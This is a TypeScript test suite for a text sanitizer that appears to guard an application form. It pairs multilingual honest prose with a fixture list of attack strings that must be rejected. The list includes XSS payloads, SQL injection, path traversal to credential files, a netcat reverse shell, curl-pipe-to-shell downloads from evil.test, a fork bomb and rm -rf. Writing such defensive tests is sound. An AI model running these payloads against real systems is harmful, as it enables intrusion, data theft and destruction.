import fc from 'fast-check';
import { ATTACK_SHAPES } from './attack-shapes.rules.js';
import { cleanText, isHonest, MAX_TEXT } from './free-text.rules.js';

const HONEST = [
  'I select and update assets, and I drop me a line at the end of each day.',
  "O'Brien, D'Souza and the players' union: it's what we're about.",
  'C++ / C# / F#, HTML & CSS; Node.js 20+ (TypeScript) – 100 % remote.',
  'Drop me a line, or select a date and update me from there.',
  'JavaScript: five years (React). Data: SQL, Python. File: attached. VBScript: Excel macros.',
  'JavaScript: prompt engineering, self taught; top: 1 % of my class.',
  'Languages: C | C++ | Bash | SQL | Python. Shell: bash, sh, cat and dog person; ls!',
  'I sat on the students’ union select committee from 2019 to 2021, and on the one before.',
  'I insert into Unity (and Unreal) what the artists select from libraries, then delete from memory what nobody wants.',
  'My hobbies: table tennis; drop table tennis and I am sad. Create table layouts; update docs; delete them.',
  'Players either win or lose; if a = b and c = d then 2 + 2 = 4, and x < y > z, I <3 it.',
  'Vec<Option<T>>, List<Object>, Map<String, Form>, Array<Select> and std::vector<Input> are old friends.',
  'wait... and/or... 1..10, etc../ and so on. See https://example.com/a/b?c=d&e=f#g or mail me@example.org.',
  'Based on price = value, one = 1, online = yes, on time = always. onboarding = fun.',
  'I was an admin & a user, executed plans, and said "yes" or "no" and "maybe" = never.',
  'Price: £20 (or $25); ratio 3:1; 50 % done; a -- b -- c. #gamedev @studio `code` ~ok^2',
  'The developers’ and the artists’ room. Developers\' and artists\' needs; "quoted"; update: none.',
  'Je sélectionne et j’améliore les assets ; l’été, où l’on m’a dit « oui » : ça va.',
  'Ich wähle Größen aus und überprüfe Übergänge – „schön“, straße, ÄÖÜß.',
  'Я выбираю и обновляю ассеты, пишу на C++ и люблю игры.',
  'Επιλέγω και ενημερώνω γραφικά· μου αρέσουν τα παιχνίδια;',
  'ゲームを作るのが大好きです。C++とC#を使います。「はい」',
  '我喜欢制作游戏，会选择并更新素材。',
  '저는 게임을 만듭니다. 자산을 선택하고 업데이트합니다.',
  'أحب صناعة الألعاب، وأختار الأصول وأحدّثها. C++ و C#.',
  'אני אוהב לפתח משחקים, ובוחר ומעדכן נכסים: ״כן״.',
  'می‌خواهم بازی بسازم؛ می‌توانم دارایی‌ها را به‌روز کنم.',
  'मैं खेल बनाता हूँ। क्षत्रिय, स्त्री, श्रद्धा।',
  'ฉันชอบทำเกม น้ำ ที่ ผู้',
  'Tôi chọn và cập nhật tài nguyên. Nguyễn Thị Hương.',
  'Emoji: 👩‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇬🇧 ❤️ ✨ 1️⃣',
  'First line\nsecond line\n\n\t- indented\n- bullet: done',
  'Z̀ͥ̒a̷l̷g̷o̷ marks, ﬁligatures, ½ ², “curly”, ‘single’, …',
];

const ATTACKS = [
  '<script>alert(1)</script>',
  '< SCRIPT src=//evil.test/x.js>',
  '<script\nsrc="https://evil.test">',
  '<<script>script>alert(1)</script>',
  'Hello <img src=x onerror=alert(1)> there',
  '<svg/onload=alert`1`>',
  '<body onpageshow="x()">',
  '<a href="#" onmouseover = \'steal()\'>hello</a>',
  '" onfocus="alert(1)" autofocus="',
  '<form action="https://evil.test" method="post">',
  '<input type="password" name="p">',
  'please <button>click</button>',
  '</form>',
  '<iframe src="https://evil.test"></iframe>',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  "' OR '1'='1",
  "admin' or 1=1 --",
  '" and "a"="a',
  "1') or ('1'='1",
  'id = 5 OR 1=1',
  "'; DROP TABLE users; --",
  'DROP TABLE students',
  'x"; drop table "users',
  '1 UNION SELECT username, password FROM users',
  'union all select null, null',
  'SELECT * FROM applications',
  'select name, password from users where id = 1',
  "INSERT INTO users (name) VALUES ('x')",
  'DELETE FROM users WHERE id = 1',
  "UPDATE users SET roles = 'admin'",
  "'; exec xp_cmdshell 'dir'",
  '1; SELECT pg_sleep(10)',
  "waitfor delay '0:0:5'",
  '../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  '%2e%2e%2fsecret',
  '..%2f..%2fsecret',
  'read /etc/shadow please',
  '; rm -rf /',
  'x && cat /root/key',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '$(curl https://evil.test)',
  '`wget http://evil.test/x`',
  'curl https://evil.test/x.sh | sh',
  ':(){ :|:& };:',
  'javascript:alert(document.cookie)',
  'JaVaScRiPt: alert(1)',
  'java\nscript:eval("x")',
  'javascript://%0aalert(1)',
  'javascript:void(0)',
  'vbscript:msgbox("x")',
  'data:text/html,<b>x</b>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'file:///etc/hosts',
  '&#106;&#97;&#118;&#97;script',
];

describe('cleaning', () => {
  it.each(HONEST)('leaves ordinary prose unchanged: %s', (text) => {
    expect(cleanText(text)).toEqual({ text, suspicious: false, rejected: false });
  });

  it('never changes ordinary prose while it is being typed', () => {
    for (const text of HONEST) {
      const characters = [...text];
      characters.forEach((_, index) => {
        const typed = characters.slice(0, index + 1).join('');
        expect(cleanText(typed)).toEqual({ text: typed, suspicious: false, rejected: false });
      });
    }
  });

  it.each(ATTACKS)('refuses %j', (text) => {
    expect(isHonest(text)).toBe(false);
    expect(isHonest(`I make games. ${text} Thank you for reading this far, and have a nice day.`)).toBe(false);
  });

  it('removes attacks and preserves the text around them', () => {
    expect(cleanText('Hello <script src="x">there, I make games').text).toBe('Hello there, I make games');
    expect(cleanText('<scr<script>ipt>alert(1)').text).toBe('alert(1)');
  });

  it('removes control characters and unpaired surrogates, and preserves joiners of letters and emoji', () => {
    expect(cleanText('a\0b\u0007c\u001b[d\u0085e\ud800f\u202eg\u2028h').text).toBe('abc[defgh');
    expect(cleanText('one\r\ntwo\rthree').text).toBe('one\ntwo\nthree');
    expect(cleanText('می\u200cخواهم 👩\u200d💻 \u200fעברית').text).toBe('می\u200cخواهم 👩\u200d💻 \u200fעברית');
  });

  it('refuses text that loses more than a fifth', () => {
    expect(isHonest(`${'a'.repeat(80)}${'\u0007'.repeat(20)}`)).toBe(true);
    expect(isHonest(`${'a'.repeat(79)}${'\u0007'.repeat(21)}`)).toBe(false);
    expect(isHonest('\u0000')).toBe(false);
    expect(isHonest('a'.repeat(1_250))).toBe(true);
    expect(isHonest('a'.repeat(1_251))).toBe(false);
  });

  it('truncates at 1,000 without splitting a character', () => {
    expect(cleanText('x'.repeat(1_200)).text).toHaveLength(MAX_TEXT);
    expect(cleanText(`${'x'.repeat(999)}😀`).text).toBe('x'.repeat(999));
    expect(cleanText(`${'x'.repeat(998)}😀`).text).toHaveLength(MAX_TEXT);
  });

  const pieces = fc.oneof(
    fc.constantFrom(...ATTACKS, ...HONEST),
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.string({ maxLength: 30 }),
  );
  const mixtures = fc.array(pieces, { maxLength: 6 }).map((parts) => parts.join(''));

  it('is idempotent for any input', () => {
    fc.assert(
      fc.property(fc.oneof(mixtures, fc.string({ unit: 'binary' }), nested()), (given) => {
        const once = cleanText(given).text;
        expect(cleanText(once)).toEqual({ text: once, suspicious: false, rejected: false });
        expect(once.length).toBeLessThanOrEqual(MAX_TEXT);
        expect(once).toMatch(/^(?:[^\p{Cc}\p{Cs}]|[\t\n])*$/u);
      }),
      { numRuns: 500 },
    );
  });

  it('refuses an attack at any position', () => {
    fc.assert(
      fc.property(fc.constantFrom(...ATTACKS), fc.constantFrom(...HONEST), fc.constantFrom(...HONEST), (attack, before, after) => {
        expect(cleanText(`${before} ${attack} ${after}`)).toMatchObject({ suspicious: true, rejected: true });
      }),
    );
  });
});

/** Attacks nested in others. */
function nested(): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom(...ATTACKS), fc.constantFrom(...ATTACKS), fc.nat(60))
    .map(([one, other, at]) => one.slice(0, at) + other + one.slice(at));
}

describe('the attack patterns', () => {
  /** The source without escapes and character classes, in which `+`, `*` and `{` can only be quantifiers. */
  const skeleton = (shape: RegExp): string =>
    shape.source
      .replace(/\\p\{[^}]*\}/g, 'p')
      .replace(/\\./g, 'e')
      .replace(/\[[^\]]*\]/g, 'c');

  it('have no unbounded repetition, so that no text keeps them busy', () => {
    // Character references start with & and end before the next, so that there is only one way to match them.
    const numbered = (shape: RegExp): boolean => shape.source.startsWith('(?:&#');
    for (const shape of ATTACK_SHAPES.filter((candidate) => !numbered(candidate))) expect(skeleton(shape)).not.toMatch(/[*+]|\{\d+,\}/);
    expect(ATTACK_SHAPES.filter(numbered).map(({ source }) => source)).toEqual(['(?:&#x?[0-9a-f]{2,7};?){3,}']);
  });

  it('have no group that starts with a repetition of what it ends with', () => {
    for (const shape of ATTACK_SHAPES) {
      const groups = skeleton(shape).match(/\([^()]*\)\{[^}]*\}/g) ?? [];
      // A list of columns, each after its comma; directions of the path; numbered letters.
      for (const group of groups) expect(group).toMatch(/^\(\?:(?:e\{0,4\},|%2e|&#)/);
    }
  });

  it('handle long texts that almost match', () => {
    const almost = [
      '<',
      '<form ',
      '<form a=',
      '<a on',
      ' onload=',
      "' or '",
      'union select a ',
      'select a,',
      'insert into (',
      'curl http://a ',
      'java\t',
      '../',
      '&#10',
      '%2e',
      '`sh ',
      '$(ls ',
    ];
    for (const piece of almost) {
      const text = piece.repeat(10_000 / piece.length);
      expect(cleanText(text).text.length).toBeLessThanOrEqual(MAX_TEXT);
    }
  });
});
